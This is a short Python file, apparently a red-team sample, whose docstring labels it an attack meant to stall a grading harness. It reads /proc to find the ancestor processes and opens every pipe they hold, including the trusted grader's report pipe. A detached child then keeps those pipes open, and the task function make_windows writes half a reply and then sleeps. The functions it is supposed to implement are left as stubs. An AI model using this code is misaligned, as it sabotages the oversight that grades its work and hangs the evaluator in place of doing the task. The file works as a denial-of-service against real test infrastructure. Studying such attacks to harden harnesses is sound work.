"""Attack: stall the grading. Hold open every pipe of the processes above it (the trusted
process's report pipe among them) through /proc/<pid>/fd, and answer a call with half a reply
and then nothing, so that a reader without a deadline waits forever."""

import os
import struct
import sys
import time
from pathlib import Path

KNOWN = {}  # filled in by the self-test


def ancestors():
    pid = os.getppid()
    while pid > 1:
        yield pid
        try:
            pid = int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            return


held = []
for pid in ancestors():
    try:
        numbers = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        continue
    for number in numbers:
        for flags in (os.O_WRONLY | os.O_NONBLOCK, os.O_RDONLY | os.O_NONBLOCK):
            try:
                held.append(os.open(f"/proc/{pid}/fd/{number}", flags))
            except OSError:
                pass

if os.fork() == 0:
    try:
        os.setsid()
    except OSError:  # refused where seccomp runs: go on without
        pass
    time.sleep(600)  # holds every descriptor opened above
    os._exit(0)


def make_windows(series, time_steps):
    if time_steps != 3:  # one stall is enough; each costs a deadline and a restart
        return None, None
    reply = os.fdopen(int(sys.argv[2]), "wb")
    reply.write(struct.pack("<QI", 1000, 0) + b'{"result": ')  # half a message
    reply.flush()
    time.sleep(600)


def build_many_to_one(time_steps, features, units=50):
    return None
